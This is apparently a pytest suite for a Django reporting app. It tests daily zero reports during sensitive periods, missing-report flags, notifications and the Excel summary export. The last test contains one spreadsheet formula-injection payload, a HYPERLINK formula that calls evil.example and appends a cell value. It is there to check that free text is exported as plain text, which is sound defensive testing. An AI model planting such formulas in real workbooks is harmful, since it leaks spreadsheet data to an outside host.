"""Daily zero reports in sensitive periods (R8.4, Art. 3): each unit reports by the cut-off its new requests and
notable issues or an explicit zero report; at the cut-off the sweep flags the missing units to the Office and
their heads, once; the period's summary is exported."""

from __future__ import annotations

import datetime as dt
import io

import pytest
import time_machine
from django.test import override_settings
from openpyxl import load_workbook

from jiesu.notify.models import Notification
from jiesu.reporting.export import write_period_summary
from jiesu.reporting.models import MissingFlag, ReportLog, SensitivePeriod, ZeroReport
from jiesu.reporting.selectors import period_grid
from jiesu.reporting.services import (
    ReportingError,
    flag_missing_reports,
    period_declare,
    zero_report_submit,
)
from jiesu.worker.sweep import run_sweep
from tests.support import at, unit, user

pytestmark = pytest.mark.django_db

DAY = dt.date(2026, 12, 1)


@pytest.fixture
def period(demo_org: None) -> SensitivePeriod:
    with time_machine.travel(at(2026, 11, 30, 9), tick=False):
        return period_declare(
            actor=user("dispatcher"),
            name="元旦前后",
            first_day=DAY,
            last_day=DAY + dt.timedelta(days=2),
            units=[unit("logistics"), unit("nic")],
        )


@pytest.mark.parametrize(
    ("name", "first", "last", "units", "field"),
    [
        ("", DAY, DAY, ["nic"], "name"),
        ("期间", DAY, DAY - dt.timedelta(days=1), ["nic"], "last_day"),
        ("期间", DAY, DAY + dt.timedelta(days=100), ["nic"], "last_day"),
        ("期间", DAY, DAY, [], "units"),
    ],
)
def test_a_bad_period_is_refused_and_nothing_is_written(demo_org, name, first, last, units, field) -> None:
    with pytest.raises(ReportingError) as caught:
        period_declare(
            actor=user("dispatcher"),
            name=name,
            first_day=first,
            last_day=last,
            units=[unit(u) for u in units],
        )
    assert caught.value.field == field
    assert not SensitivePeriod.objects.exists() and not ReportLog.objects.exists()


def test_only_the_office_declares(demo_org) -> None:
    with pytest.raises(ReportingError):
        period_declare(actor=user("head"), name="x", first_day=DAY, last_day=DAY, units=[unit("nic")])


def test_a_unit_reports_its_day_or_a_zero_report_and_late_ones_are_marked(period) -> None:
    with time_machine.travel(at(2026, 12, 1, 16, 30), tick=False):
        report = zero_report_submit(
            actor=user("officer"),
            period=period,
            unit=unit("logistics"),
            day=DAY,
            is_zero=False,
            new_requests=3,
            notable="宿舍停水，已处理",
        )
    assert not report.late and not report.is_zero
    with time_machine.travel(at(2026, 12, 2, 17, 5), tick=False):
        late = zero_report_submit(
            actor=user("head"),
            period=period,
            unit=unit("logistics"),
            day=DAY + dt.timedelta(days=1),
            is_zero=True,
        )
    assert late.late and late.is_zero
    assert ReportLog.objects.filter(action__in=["daily_report", "zero_report"]).count() == 2


@pytest.mark.parametrize(
    ("who", "code", "day", "zero", "n", "text", "field"),
    [
        ("officer", "nic", DAY, True, 0, "", ""),  # not their unit
        ("officer", "logistics", DAY - dt.timedelta(days=1), True, 0, "", "day"),  # before the period
        ("officer", "logistics", DAY + dt.timedelta(days=1), True, 0, "", "day"),  # in advance
        ("officer", "logistics", DAY, True, 2, "", "is_zero"),  # a zero report with requests
        ("officer", "logistics", DAY, False, 0, "", "notable"),  # nothing and not zero
    ],
)
def test_a_bad_daily_report_is_refused(period, who, code, day, zero, n, text, field) -> None:
    with time_machine.travel(at(2026, 12, 1, 10), tick=False), pytest.raises(ReportingError) as caught:
        zero_report_submit(
            actor=user(who),
            period=period,
            unit=unit(code),
            day=day,
            is_zero=zero,
            new_requests=n,
            notable=text,
        )
    assert caught.value.field == field
    assert not ZeroReport.objects.exists()


def test_a_day_is_reported_once(period) -> None:
    with time_machine.travel(at(2026, 12, 1, 10), tick=False):
        zero_report_submit(
            actor=user("officer"), period=period, unit=unit("logistics"), day=DAY, is_zero=True
        )
        with pytest.raises(ReportingError) as caught:
            zero_report_submit(
                actor=user("head"), period=period, unit=unit("logistics"), day=DAY, is_zero=True
            )
    assert caught.value.code == "duplicate"


def test_missing_units_are_flagged_at_the_cut_off_to_the_office_and_their_head_once(period) -> None:
    with time_machine.travel(at(2026, 12, 1, 10), tick=False):
        zero_report_submit(
            actor=user("officer"), period=period, unit=unit("logistics"), day=DAY, is_zero=True
        )
    assert flag_missing_reports(now=at(2026, 12, 1, 16, 59)) == 0  # before the cut-off
    with time_machine.travel(
        at(
            2026,
            12,
            1,
            17,
            0,
        ),
        tick=False,
    ):
        run_sweep(now=at(2026, 12, 1, 17, 0))
    flags = MissingFlag.objects.all()
    assert [(f.unit.code, f.day) for f in flags] == [("nic", DAY)]
    office = Notification.objects.filter(event="zero_report_missing", recipient=user("dispatcher"))
    assert office.count() == 1 and "网络信息中心" in office.get().body
    nic_head = (
        user("dispatcher")
        .__class__.objects.filter(memberships__unit=unit("nic"), memberships__role="unit_head")
        .get()
    )
    assert Notification.objects.filter(event="zero_report_missing", recipient=nic_head).count() == 1
    assert not Notification.objects.filter(
        event="zero_report_missing", recipient=user("head")
    ).exists()  # reported
    assert flag_missing_reports(now=at(2026, 12, 1, 17, 1)) == 0  # flagged once
    assert ReportLog.objects.filter(action="missing_flagged").count() == 1


@override_settings(JIESU_ZERO_REPORT_CUTOFF="12:30")
def test_the_cut_off_is_a_setting(period) -> None:
    assert flag_missing_reports(now=at(2026, 12, 1, 12, 29)) == 0
    assert flag_missing_reports(now=at(2026, 12, 1, 12, 30)) > 0
    assert MissingFlag.objects.count() == 2


def test_a_worker_down_at_the_cut_off_flags_yesterday_the_next_morning(period) -> None:
    flag_missing_reports(now=at(2026, 12, 2, 9))
    assert {(f.unit.code, f.day) for f in MissingFlag.objects.all()} == {("logistics", DAY), ("nic", DAY)}


def test_the_period_summary_is_exported_to_excel(period) -> None:
    with time_machine.travel(at(2026, 12, 1, 10), tick=False):
        zero_report_submit(
            actor=user("officer"),
            period=period,
            unit=unit("logistics"),
            day=DAY,
            is_zero=False,
            new_requests=2,
            notable="供暖",
        )
    with time_machine.travel(at(2026, 12, 2, 18), tick=False):
        grid = {s.unit.code: s for s in period_grid(period)}
        out = io.BytesIO()
        rows = write_period_summary(period, out)
    assert (grid["logistics"].reported, grid["logistics"].missing, grid["logistics"].new_requests) == (
        1,
        1,
        2,
    )
    assert (grid["nic"].reported, grid["nic"].missing) == (0, 2)
    assert rows == 1
    book = load_workbook(io.BytesIO(out.getvalue()))
    summary, detail = book.worksheets
    values = [list(r) for r in summary.iter_rows(min_row=3, values_only=True)]
    assert values == [["后勤管理处", 1, 0, 0, 1, 2], ["网络信息中心", 0, 0, 0, 2, 0]]
    assert list(detail.iter_rows(min_row=2, values_only=True))[0][:5] == (
        "2026-12-01",
        "后勤管理处",
        "否",
        2,
        "供暖",
    )


def test_notable_issues_typed_as_a_formula_are_exported_as_text(period) -> None:
    """A unit's free text reaches the Office's workbook as the text it is, never as a formula to evaluate."""
    typed = '=HYPERLINK("http://evil.example/"&A1,"点此查看")'
    with time_machine.travel(at(2026, 12, 1, 10), tick=False):
        zero_report_submit(
            actor=user("officer"),
            period=period,
            unit=unit("logistics"),
            day=DAY,
            is_zero=False,
            new_requests=1,
            notable=typed,
        )
    out = io.BytesIO()
    write_period_summary(period, out)
    detail = load_workbook(io.BytesIO(out.getvalue())).worksheets[1]
    cell = detail.cell(row=2, column=5)
    assert (cell.value, cell.data_type) == (typed, "s")
